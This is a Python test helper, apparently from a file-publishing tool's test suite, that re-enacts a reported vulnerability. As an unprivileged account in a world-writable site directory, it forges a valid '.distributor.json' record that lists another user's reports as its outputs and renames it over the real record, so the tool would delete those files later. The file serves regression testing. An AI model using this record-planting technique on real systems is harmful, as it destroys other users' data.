# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Issue 38's attack, played by the accounts it involves. uid 1000 owns `reports/` (0755) in a
site root publishes; uid 65534 can write the site's top directory, not `reports/`. It reads the
site and uid 1000's reports, publishes them with distributor to a scratch root of its own, and
renames the record it got over the real `.distributor.json`: a valid record naming uid 1000's
files as outputs, which only root could delete.

Run as a script (by `attack` and `attacker_record`, as uid 65534 through setpriv):

    python planting.py record COLLECTIONS HOME SITE SOURCE_ID CREATED DESTINATION_ID PIPELINE_ID STATE_MODE
    python planting.py attack COLLECTIONS HOME SITE SOURCE_ID CREATED DESTINATION_ID PIPELINE_ID STATE_MODE

`record` prints the path of the record it made (under HOME, the attacker's own directory);
`attack` also tries to delete a report itself and renames the record over SITE's, printing
what its own `rm` got.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys

VICTIM = 1000
ATTACKER = 65534
AS_ATTACKER = ["setpriv", "--reuid", str(ATTACKER), "--regid", str(ATTACKER), "--clear-groups"]
RECORD = ".distributor.json"
REPORTS = {"reports/q%03d.pdf" % i: b"%%PDF-1.7 quarter %d, uid %d's" % (i, VICTIM) for i in range(20)}
HERE = os.path.abspath(__file__)
SOURCE_TREE = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(HERE))), ".build", "src")


def victim_reports(site: str) -> None:
    """uid 1000's reports in `site`, in a 0755 directory of its own; `site` itself opened to
    every account (uid 65534 can write the top directory, nothing beneath it)."""
    reports = os.path.join(site, "reports")
    os.mkdir(reports, 0o755)
    for path, data in REPORTS.items():
        with open(os.path.join(site, path), "wb") as handle:
            handle.write(data)
        os.chmod(os.path.join(site, path), 0o644)
        os.chown(os.path.join(site, path), VICTIM, VICTIM)
    os.chown(reports, VICTIM, VICTIM)
    os.chmod(site, 0o777)


def reports_lost(site: str) -> list:
    """uid 1000's reports that are no longer there as it wrote them: deletions (or rewrites)
    outside what distributor wrote."""
    lost = []
    for path, data in REPORTS.items():
        try:
            info = os.lstat(os.path.join(site, path))
            with open(os.path.join(site, path), "rb") as handle:
                same = handle.read() == data and info.st_uid == VICTIM
        except FileNotFoundError:
            same = False
        if not same:
            lost.append(path)
    return lost


def attacker_home(top: str, name: str = "attacker") -> str:
    """The attacker's own directory `name` under `top` (which every account may enter)."""
    home = os.path.join(top, name)
    os.mkdir(home, 0o755)
    os.chown(home, ATTACKER, ATTACKER)
    shutil.copy(HERE, os.path.join(home, "planting.py"))
    return home


def _as_attacker(home: str, command: str, site: str, bundle: dict, collections: str) -> str:
    args = [command, collections, home, site, bundle["source_id"], bundle["created"], bundle["destination_id"],
            bundle["pipeline_id"], bundle.get("state_mode", "single_owner")]
    done = subprocess.run(AS_ATTACKER + [sys.executable, os.path.join(home, "planting.py")] + args,
                          capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, "the attacker's %s failed: %s%s" % (command, done.stdout, done.stderr)
    return done.stdout.strip()


def attacker_record(home: str, site: str, bundle: dict, collections: str = SOURCE_TREE) -> str:
    """A valid record of the site plus uid 1000's reports, made by uid 65534 and owned by it
    (in its own directory): what it plants. `bundle`: the site's source_id, created,
    destination_id, pipeline_id and state_mode, as its record shows them to anyone."""
    return _as_attacker(home, "record", site, bundle, collections)


def attack(home: str, site: str, bundle: dict, collections: str = SOURCE_TREE) -> dict:
    """The whole attack as uid 65534: its record made and renamed over the site's. Returns
    {"rm": what the attacker's own delete of a report got, "planted": the record's path}."""
    return json.loads(_as_attacker(home, "attack", site, bundle, collections))


def _record(collections: str, home: str, site: str, source_id: str, created: str, destination_id: str,
            pipeline_id: str, state_mode: str) -> str:
    sys.path.insert(0, collections)
    from ansible_collections.distributor.core.plugins.module_utils._distributor.records.manifest_build import create_manifest
    from ansible_collections.distributor.core.plugins.module_utils._distributor.operations.publish import publish

    bundle, scratch = os.path.join(home, "bundle"), os.path.join(home, "scratch")
    shutil.rmtree(bundle, ignore_errors=True)
    shutil.rmtree(scratch, ignore_errors=True)
    paths = []
    for directory, _dirs, files in os.walk(site):
        for name in files:
            path = os.path.relpath(os.path.join(directory, name), site)
            if not name.startswith(".distributor"):
                os.makedirs(os.path.dirname(os.path.join(bundle, path)), exist_ok=True)
                shutil.copyfile(os.path.join(site, path), os.path.join(bundle, path))
                paths.append(path)
    create_manifest(bundle, source_id, created, sorted(paths))
    os.mkdir(scratch)
    destination = {"id": destination_id, "storage": {"type": "local", "root": scratch}, "path": "site",
                   "state": {"mode": state_mode}}
    publish(bundle, {"id": pipeline_id}, destination)
    made = os.path.join(home, "planted.json")
    os.rename(os.path.join(scratch, "site", RECORD), made)
    return made


def main() -> None:
    command, collections, home, site = sys.argv[1:5]
    made = _record(collections, home, site, *sys.argv[5:10])
    if command == "record":
        print(made)
        return
    try:
        os.unlink(os.path.join(site, next(iter(REPORTS))))
        rm = "deleted"
    except OSError as error:
        rm = os.strerror(error.errno)
    os.rename(made, os.path.join(site, RECORD))
    print(json.dumps({"rm": rm, "planted": os.path.join(site, RECORD)}))


if __name__ == "__main__":
    main()
